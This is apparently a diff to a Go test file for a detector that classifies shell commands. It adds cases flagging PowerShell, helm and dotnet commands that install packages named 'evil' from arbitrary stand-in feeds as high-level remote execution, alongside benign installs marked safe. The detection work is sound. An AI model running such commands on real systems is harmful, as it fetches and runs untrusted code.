@@ -37,3 +37,27 @@ func TestPackagesFromArbitrarySources(t *testing.T) {
 		`python3 -m venv .venv`,
 	})
 }
+
+// Module galleries, package feeds and chart repositories on arbitrary web
+// sites, next to the official ones.
+func TestArbitraryFeedsAndGalleries(t *testing.T) {
+	d := NewDetector(Options{})
+	ps := winCorpusContextFor("powershell")
+	checkDanger(t, d, ps, []dangerCase{
+		{`Register-PSRepository -Name x -SourceLocation https://feed.example.com/api/v2 -InstallationPolicy Trusted; Install-Module evil -Repository x -Force`, CategoryRemoteExec, "package-feed-arbitrary", LevelHigh},
+		{`Install-Package evil -Source https://feed.example.org/nuget -Force -SkipPublisherCheck`, CategoryRemoteExec, "package-feed-arbitrary", LevelHigh},
+	})
+	checkSafe(t, d, ps, []string{
+		`Install-Module Pester -Scope CurrentUser -Force`,
+		`Register-PSRepository -Name corp -SourceLocation https://pkgs.dev.azure.com/acme/_packaging/ps/nuget/v2`,
+	})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`helm repo add x https://charts.example.net && helm install x x/agent -n kube-system`, CategoryRemoteExec, "package-feed-arbitrary", LevelHigh},
+		{`dotnet add package Evil --source https://feed.example.org/v3/index.json`, CategoryRemoteExec, "package-feed-arbitrary", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`helm repo add bitnami https://charts.bitnami.com/bitnami && helm install db bitnami/postgresql`,
+		`helm repo add ingress-nginx https://kubernetes.github.io/ingress-nginx`,
+		`dotnet add package Serilog`,
+	})
+}
